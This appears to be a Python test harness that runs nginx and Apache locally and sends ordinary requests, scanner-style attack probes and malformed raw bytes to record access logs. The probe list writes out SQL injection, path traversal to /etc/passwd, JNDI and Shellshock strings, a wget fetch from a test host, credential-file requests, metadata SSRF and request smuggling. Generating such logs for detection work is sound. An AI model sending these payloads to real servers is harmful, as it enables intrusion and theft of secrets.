"""Scenes of web servers: nginx and Apache httpd as Debian ships them, asked by curl and by raw sockets."""
import os
import socket
import time

from node import NODE4, NODE6, run

PACKAGES = ["nginx-light", "apache2", "curl"]
NEEDS_SSHD = False
NGINX, APACHE = 80, 81

# One line of JSON for each request, as many clusters log; escape=json is nginx's own escaping.
NGINX_CONF = """
daemon off;
worker_processes 1;
pid /run/nginx-node.pid;
error_log {out}/nginx-error.log notice;
events {{ worker_connections 256; }}
http {{
  include /etc/nginx/mime.types;
  log_format json escape=json '{{"time":"$time_iso8601","remote_addr":"$remote_addr","remote_user":"$remote_user","request":"$request",'
    '"method":"$request_method","uri":"$request_uri","status":$status,"bytes":$body_bytes_sent,"referer":"$http_referer","agent":"$http_user_agent",'
    '"host":"$host","seconds":$request_time,"length":$request_length}}';
  access_log {out}/nginx-access.log combined;
  access_log {out}/nginx-access.json json;
  server {{
    listen 80 default_server;
    listen [::]:80 default_server;
    root /var/www/html;
    index index.html;
    location / {{ try_files $uri $uri/ =404; }}
    location /health {{ return 200 "ok\\n"; }}
    location /api/ {{ return 200 "{{}}\\n"; }}
    location /old {{ return 301 /new; }}
    location /broken {{ return 500; }}
    location /admin {{ deny all; }}
    location /private {{ auth_basic "node"; auth_basic_user_file /etc/nginx/people; }}
  }}
}}
"""

APACHE_CONF = """
ServerName node-1
ErrorLog {out}/apache-error.log
CustomLog {out}/apache-access.log combined
CustomLog {out}/apache-common.log common
<VirtualHost *:81>
  DocumentRoot /var/www/html
  Redirect 301 /old /new
  Redirect 500 /broken
  <Location /admin>
    Require all denied
  </Location>
  <Location /private>
    AuthType Basic
    AuthName node
    AuthUserFile /etc/nginx/people
    Require valid-user
  </Location>
</VirtualHost>
"""

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

# (what, target, more): requests of normal life.
ORDINARY = [
    ("page", "/", {}), ("page", "/index.html", {"referer": "http://www.example.org/start"}), ("not found", "/favicon.ico", {}),
    ("not found", "/missing/page", {}), ("redirect", "/old", {}), ("server error", "/broken", {}), ("forbidden", "/admin", {}),
    ("head", "/", {"method": "HEAD"}), ("post", "/api/orders", {"method": "POST", "body": "a=1"}), ("put", "/api/orders/1", {"method": "PUT", "body": "{}"}),
    ("delete", "/api/orders/1", {"method": "DELETE"}), ("options", "*", {"method": "OPTIONS"}), ("login wanted", "/private", {}),
    ("login", "/private/", {"user": "ann"}), ("login refused", "/private/", {"user": "mallory"}),
    ("query", "/?q=cats+and+dogs&page=2&lang=de", {}), ("encoded", "/caf%C3%A9?x=%20%22%27", {}), ("no agent", "/", {"agent": ""}),
    ("health", "/health", {"agent": "kube-probe/1.34"}), ("range", "/", {"header": "Range: bytes=0-10"}),
    ("secret in query", "/api/?token=not-a-secret-1234567890&user=ann", {}), ("secret in query", "/?password=not-a-secret&next=/", {}),
    ("secret in query", "/?access_token=not.a.secret&api_key=not-a-key&sig=0123", {}), ("secret in referer", "/", {"referer": "https://shop.example.org/?session=not-a-secret"}),
    ("secret in path", "/reset/not-a-secret-0123456789abcdef", {}),
]

# Attacks of the kinds that scanners try everywhere, written for this recording.
PROBES = [
    ("sql injection", "/products?id=1%20UNION%20SELECT%20name,pass%20FROM%20users--", {}), ("sql injection", "/login?user=admin'%20OR%20'1'='1", {}),
    ("sql injection", "/item?id=1;WAITFOR%20DELAY%20'0:0:5'--", {}), ("sql injection", "/item?id=(SELECT%20SLEEP(5))", {}),
    ("traversal", "/../../../../etc/passwd", {}), ("traversal", "/static/..%2f..%2f..%2fetc%2fpasswd", {}), ("traversal", "/%2e%2e/%2e%2e/etc/shadow", {}),
    ("traversal", "/view?file=../../../../etc/passwd%00.png", {}), ("traversal", "/..%252f..%252fetc/passwd", {}),
    ("jndi", "/?x=${jndi:ldap://203.0.113.66/a}", {}), ("jndi", "/", {"agent": "${jndi:ldap://203.0.113.66:1389/Basic}"}),
    ("jndi", "/", {"agent": "${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}"}), ("jndi", "/", {"referer": "${jndi:dns://203.0.113.66/x}"}),
    ("shellshock", "/cgi-bin/status", {"agent": "() { :;}; /bin/bash -c 'cat /etc/passwd'"}), ("shellshock", "/", {"referer": "() { ignored; }; echo; id"}),
    ("command injection", "/ping?host=127.0.0.1;cat%20/etc/passwd", {}), ("command injection", "/ping?host=$(id)", {}), ("command injection", "/x?c=`wget%20http://203.0.113.66/s.sh`", {}),
    ("web shell", "/uploads/shell.php?cmd=id", {}), ("web shell", "/wp-content/uploads/c99.php", {}), ("secret file", "/.env", {}), ("secret file", "/.git/config", {}),
    ("secret file", "/wp-config.php.bak", {}), ("secret file", "/.aws/credentials", {}), ("secret file", "/id_rsa", {}), ("php", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", {"method": "POST", "body": "x"}),
    ("php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {"method": "POST", "body": "<?=1?>"}), ("template injection", "/hello?name={{7*7}}", {}),
    ("template injection", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", {}), ("cross-site scripting", "/search?q=<script>alert(1)</script>", {}),
    ("cross-site scripting", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", {}), ("forged request", "/fetch?url=http://169.254.169.254/latest/meta-data/", {}),
    ("forged request", "/fetch?url=file:///etc/passwd", {}), ("struts", "/index.action?redirect:${1+1}", {}), ("scanner", "/nmaplowercheck1", {"agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
    ("scanner", "/", {"agent": "sqlmap/1.8"}), ("scanner", "/", {"agent": "Nikto/2.5.0"}), ("proxy", "http://203.0.113.66/", {}), ("apache", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", {"method": "POST", "body": "id"}),
]

# Bytes sent as they stand.
RAW = [
    ("http 1.0", b"GET / HTTP/1.0\r\n\r\n"), ("http 0.9", b"GET /\r\n"), ("odd method", b"PROPFIND / HTTP/1.1\r\nHost: a\r\n\r\n"), ("odd method", b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n"),
    ("odd method", b"FOO / HTTP/1.1\r\nHost: a\r\n\r\n"), ("odd method", b"get / HTTP/1.1\r\nHost: a\r\n\r\n"), ("connect", b"CONNECT 203.0.113.66:25 HTTP/1.1\r\nHost: a\r\n\r\n"),
    ("tls on a plain port", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(48)) + b"\r\n\r\n"), ("binary", bytes(range(1, 32)) + b"\xff\xfe\x00\x80\r\n\r\n"),
    ("ssh to http", b"SSH-2.0-Go\r\n\r\n"), ("remote desktop", b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00"),
    ("quotes in agent", b'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: a "quoted" agent" 200 5 "-" "x\r\n\r\n'), ("backslash in agent", b'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: back\\slash \\" \\x22\r\n\r\n'),
    ("quotes in url", b'GET /a"b" HTTP/1.1" 200 5 "-" "fake HTTP/1.1\r\nHost: a\r\n\r\n'), ("quote in url", b'GET /"%22 HTTP/1.1\r\nHost: a\r\n\r\n'),
    ("spaces in url", b"GET /a b c HTTP/1.1\r\nHost: a\r\n\r\n"), ("utf-8 in url", "GET /caf\u00e9 HTTP/1.1\r\nHost: a\r\n\r\n".encode()), ("utf-8 in agent", "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: \u540d\u524d \u00fc\r\n\r\n".encode()),
    ("latin-1 in agent", b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: \xfc\xe9\xff\r\n\r\n"), ("tab in agent", b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: a\tb\r\n\r\n"),
    ("forged line in referer", b'GET / HTTP/1.1\r\nHost: a\r\nReferer: x"\\n192.0.2.66 - - [01/Jan/2026:00:00:00 +0000] "GET /forged HTTP/1.1" 200 1\r\n\r\n'),
    ("user with spaces", b"GET /private/ HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YW5uIFswMS9KYW4vMjAyNjowMDowMDowMCArMDAwMF0gIkdFVCAvOng=\r\n\r\n"),
    ("no host", b"GET / HTTP/1.1\r\n\r\n"), ("bad header", b"GET / HTTP/1.1\r\nHost: a\r\nbad header\r\n\r\n"), ("bad version", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n"),
    ("long url", b"GET /" + b"a" * 3000 + b"?" + b"b" * 3000 + b" HTTP/1.1\r\nHost: a\r\n\r\n"), ("too long url", b"GET /" + b"a" * 40000 + b" HTTP/1.1\r\nHost: a\r\n\r\n"),
    ("long agent", b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: " + b"u" * 4000 + b"\r\n\r\n"), ("nothing", b""), ("half a request", b"GET / HTT"),
    ("smuggling", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"), ("forwarded", b"GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n"),
]


def start(node, _more, apache=True):
    people = run("openssl", "passwd", "-apr1", node.secrets["ann"]).stdout.decode().strip() if os.path.exists("/usr/bin/openssl") else "x"
    with open("/etc/nginx/people", "w") as file:
        file.write(f"ann:{people}\n")
    os.makedirs("/var/www/html/private", exist_ok=True)
    for page in ("index.html", "private/index.html", "about.html", "style.css"):
        with open(f"/var/www/html/{page}", "w") as file:
            file.write("<!doctype html><title>node</title>\n" * 8)
    with open("/etc/nginx/node.conf", "w") as file:
        file.write(NGINX_CONF.format(out=node.out))
    node.spawn("nginx", "-c", "/etc/nginx/node.conf", fake=True)
    if apache:
        with open("/etc/apache2/ports.conf", "w") as file:
            file.write("Listen 81\n")
        with open("/etc/apache2/sites-available/000-default.conf", "w") as file:
            file.write(APACHE_CONF.format(out=node.out))
        with open("/etc/apache2/conf-enabled/other-vhosts-access-log.conf", "w"):
            pass
        run("a2enmod", "-q", "auth_basic", "authn_file", "authz_user", "rewrite", check=False)
        run("apache2ctl", "configtest")
        node.spawn("apache2ctl", "-D", "FOREGROUND")
        node.until(lambda: node.listens(APACHE), "apache2 does not listen")
    node.until(lambda: node.listens(NGINX), "nginx does not listen")


def ask(node, server, port, what, target, address, method="GET", agent=BROWSER, referer=None, header=None, body=None, user=None):
    """One request by curl, from the address."""
    six = ":" in address
    host = f"[{NODE6}]" if six else NODE4
    line = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{local_port}", "--path-as-is", "-g", "--interface", address, "-A", agent, "--max-time", "5"]
    line += ["-I"] if method == "HEAD" else ["-X", method]
    line += ["-e", referer] if referer else []
    line += ["-H", header] if header else []
    line += ["--data-binary", body] if body is not None else []
    line += ["-u", f"{user}:{node.secrets.get(user, 'guess')}"] if user else []
    line += ["--request-target", target]
    with node.act("http", server=server, what=what, address=address, method=method, target=target, agent=agent, referer=referer, user=user) as act:
        code, port_used = run(*line, f"http://{host}:{port}/", check=False).stdout.decode().split()[-2:]
        act["status"], act["port"] = int(code), int(port_used)


def raw(node, server, port, what, sent, address):
    """Bytes sent as they stand; what the server answers is read for its status line."""
    six = ":" in address
    source = node.source_port()
    with node.act("http-raw", server=server, what=what, address=address, port=source, sent=sent.decode("latin-1") if len(sent) < 400 else f"{len(sent)} bytes") as act:
        peer = socket.socket(socket.AF_INET6 if six else socket.AF_INET)
        peer.bind((address, source))
        peer.settimeout(1)
        peer.connect((NODE6 if six else NODE4, port))
        answer = b""
        try:
            if sent:
                peer.sendall(sent)
            answer = peer.recv(4096)
        except OSError:
            pass
        peer.close()
        if answer.startswith(b"HTTP/"):
            act["status"] = int(answer.split()[1])
    time.sleep(0.05)


def nginx(node):
    """nginx: ordinary requests, probes and raw bytes; combined format and a JSON one of the same requests."""
    play(node, "nginx", NGINX)


def apache(node):
    """Apache httpd: the same requests; combined and common formats."""
    play(node, "apache", APACHE)


def play(node, server, port):
    for number, (what, target, more) in enumerate(ORDINARY):
        ask(node, server, port, what, target, "2001:db8:ffff::57" if number % 5 == 4 else f"198.51.100.{10 + number}", **more)
    for number, (what, target, more) in enumerate(PROBES):
        ask(node, server, port, what, target, "2001:db8:2::b" if number % 7 == 6 else f"203.0.113.{100 + number}", **{"agent": "curl/8.0", **more})
    for number, (what, sent) in enumerate(RAW):
        raw(node, server, port, what, sent, "2001:db8:2::b" if number % 9 == 8 else f"203.0.113.{150 + number}")


SCENES = [nginx, apache]
